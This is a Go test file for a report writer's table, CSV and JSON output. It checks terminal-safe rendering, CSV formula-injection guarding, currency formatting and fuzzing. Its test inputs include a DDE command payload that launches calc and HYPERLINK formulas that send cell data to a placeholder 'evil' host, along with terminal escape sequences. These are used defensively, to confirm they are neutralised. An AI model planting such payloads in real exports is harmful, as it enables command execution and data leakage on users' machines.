package reports

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/shopspring/decimal"
)

func sample() *Result {
	eur := Amount{"EUR", decimal.RequireFromString("1200")}
	return &Result{
		Name:    "source_breakdown",
		Columns: []string{"source", "leads", "rate", "won_amount", "at", "isNew"},
		Rows: [][]any{
			{"linkedin", int64(12), 0.5, Amounts{eur, {"USD", decimal.RequireFromString("5.0000")}}, time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC), true},
			{"日本語 🌸", int64(3), nil, Amounts{}, nil, false},
			{"=HYPERLINK(\"http://evil\")", int64(-4), 1.0 / 3, Amounts{{"JPY", decimal.RequireFromString("3000.0000")}}, nil, nil},
		},
		Totals: []any{nil, int64(11), nil, Amounts{eur}, nil, nil},
		Notes:  []Note{{"credit", "last"}, {"zone", "UTC"}},
	}
}

func written(t *testing.T, r *Result, format string) string {
	t.Helper()
	var b bytes.Buffer
	if err := r.Write(&b, format); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestWriteTable(t *testing.T) {
	want := `source                     leads                rate             won_amount  at                   isNew
-------------------------  -----  ------------------  ---------------------  -------------------  -----
linkedin                      12                 0.5  EUR 1200.00; USD 5.00  2026-03-01 09:00:00  true
日本語 🌸                      3                                                                  false
=HYPERLINK("http://evil")     -4  0.3333333333333333               JPY 3000
-------------------------  -----  ------------------  ---------------------  -------------------  -----
total                         11                                EUR 1200.00

credit: last
zone: UTC
`
	if got := written(t, sample(), "table"); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestTableIsSafeOnTerminals(t *testing.T) {
	r := &Result{Columns: []string{"source"}, Rows: [][]any{{"\x1b[2Jgone\u202e\n\x00"}, {strings.Repeat("x", 500)}, {strings.Repeat("界", 100)}}}
	got := written(t, r, "table")
	if strings.ContainsAny(got, "\x1b\x00\u202e") {
		t.Errorf("%q", got)
	}
	for line := range strings.SplitSeq(got, "\n") {
		if textWidth(line) > widest {
			t.Errorf("a line of %d columns", textWidth(line))
		}
	}
	if empty := written(t, &Result{Columns: []string{"a"}}, "table"); !strings.Contains(empty, "(no rows)") {
		t.Errorf("%q", empty)
	}
}

func TestTextWidth(t *testing.T) {
	for text, want := range map[string]int{"": 0, "abc": 3, "é": 1, "e\u0301": 1, "日本": 4, "🌸": 2, "ＡＢ": 4, "a\u200db": 2} {
		if got := textWidth(text); got != want {
			t.Errorf("%q is %d wide, want %d", text, got, want)
		}
	}
}

func TestWriteCSV(t *testing.T) {
	want := "source,leads,rate,won_amount,at,isNew\r\n" +
		"linkedin,12,0.5,EUR 1200.00; USD 5.00,2026-03-01T09:00:00.000Z,true\r\n" +
		"日本語 🌸,3,,,,false\r\n" +
		"\"'=HYPERLINK(\"\"http://evil\"\")\",-4,0.3333333333333333,JPY 3000,,\r\n"
	if got := written(t, sample(), "csv"); got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	for text, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\ta": "'\ta", "\ra": "'\ra", "a=1": "a=1", "": "", "1": "1",
	} {
		if got := GuardFormula(text); got != want {
			t.Errorf("guard %q: %q, want %q", text, got, want)
		}
	}
}

// TestSecurityCSVInjection: no text that strangers choose begins a cell as a formula does; the text is whole behind the ', and numbers
// stay numbers, also negative ones.
func TestSecurityCSVInjection(t *testing.T) {
	var texts []string
	for _, first := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\x00", "\ufeff", "＝", "＋", "－", "＠", "\t=", "=\"", "==", "-@", "\"=", ",=", ";=", "\n="} {
		for _, rest := range []string{"", "1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://evil.example?x="&A1,"x")`, "a,b;c\td", "\"quoted\"", "two\nlines", "'"} {
			texts = append(texts, first+rest)
		}
	}
	texts = append(texts, "plain", "1", "a=1", "'already", " =1", "")
	r := &Result{Columns: []string{"source", "leads", "rate", "medium"}}
	for _, text := range texts {
		r.Rows = append(r.Rows, []any{text, int64(-4), -0.5, text})
	}
	rows, err := csv.NewReader(strings.NewReader(written(t, r, "csv"))).ReadAll()
	if err != nil || len(rows) != len(texts)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows[1:] {
		want := strings.ReplaceAll(texts[i], "\r", "") // encoding/csv writes no \r but that of its own line ends
		for _, cell := range []string{row[0], row[3]} {
			if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r\n\x00\ufeff＝＋－＠", first) && cell != "" {
				t.Errorf("%q is written as %q, a formula", texts[i], cell)
			}
			if cell != want && cell != "'"+want {
				t.Errorf("%q is written as %q", texts[i], cell)
			}
		}
		if row[1] != "-4" || row[2] != "-0.5" {
			t.Errorf("numbers are written as %q", row[1:3])
		}
	}
}

func TestWriteJSON(t *testing.T) {
	want := `{
  "report": "source_breakdown",
  "columns": ["source", "leads", "rate", "won_amount", "at", "isNew"],
  "rows": [
    {"source": "linkedin", "leads": 12, "rate": 0.5, "won_amount": {"EUR": "1200.00", "USD": "5.00"}, "at": "2026-03-01T09:00:00.000Z", "isNew": true},
    {"source": "日本語 🌸", "leads": 3, "rate": null, "won_amount": {}, "at": null, "isNew": false},
    {"source": "=HYPERLINK(\"http://evil\")", "leads": -4, "rate": 0.3333333333333333, "won_amount": {"JPY": "3000"}, "at": null, "isNew": null}
  ],
  "totals": {"leads": 11, "won_amount": {"EUR": "1200.00"}},
  "notes": {"credit": "last", "zone": "UTC"}
}
`
	if got := written(t, sample(), "json"); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	for _, r := range []*Result{sample(), {Name: "empty"}, {Columns: []string{"rate"}, Rows: [][]any{{math.NaN()}, {math.Inf(1)}}}} {
		if text := written(t, r, "json"); !json.Valid([]byte(text)) {
			t.Errorf("no JSON: %s", text)
		}
	}
}

func TestWriteUnknownFormat(t *testing.T) {
	if err := sample().Write(&bytes.Buffer{}, "xml"); err == nil || !strings.Contains(err.Error(), "table, csv, json") {
		t.Errorf("error %v", err)
	}
}

func TestAmountText(t *testing.T) {
	for _, test := range []struct{ currency, value, want string }{
		{"EUR", "1200", "1200.00"}, {"EUR", "0.1", "0.10"}, {"EUR", "0.1250", "0.125"}, {"JPY", "3000.0000", "3000"},
		{"JPY", "0.5", "0.5"}, {"KWD", "1", "1.000"}, {"EUR", "-3.5", "-3.50"}, {"EUR", "100", "100.00"}, {"???", "1", "1.00"},
		{"EUR", "99999999999999.9999", "99999999999999.9999"},
	} {
		if got := (Amount{test.currency, decimal.RequireFromString(test.value)}).Text(); got != test.want {
			t.Errorf("%s %s: %s, want %s", test.currency, test.value, got, test.want)
		}
	}
}

func FuzzWrite(f *testing.F) {
	f.Add("linkedin", int64(1), 0.5)
	f.Add("=cmd|' /C calc'!A0", int64(-1), math.Inf(-1))
	f.Add("\x1b]0;title\a\r\n\"\xff", int64(0), math.NaN())
	f.Fuzz(func(t *testing.T, text string, number int64, fraction float64) {
		r := &Result{Name: text, Columns: []string{"text", "n", "f"}, Rows: [][]any{{text, number, fraction}}, Totals: []any{nil, number, nil}, Notes: []Note{{text, text}}}
		if got := written(t, r, "json"); !json.Valid([]byte(got)) {
			t.Errorf("no JSON: %q", got)
		}
		records, err := csv.NewReader(strings.NewReader(written(t, r, "csv"))).ReadAll()
		if err != nil || len(records) != 2 || len(records[1]) != 3 {
			t.Fatalf("CSV %q: %v", records, err)
		}
		if cell := records[1][0]; cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("a formula: %q", cell)
		}
		for _, r := range written(t, r, "table") {
			if r < ' ' && r != '\n' || r == 0x7f {
				t.Errorf("control character %q in a table", r)
			}
		}
	})
}
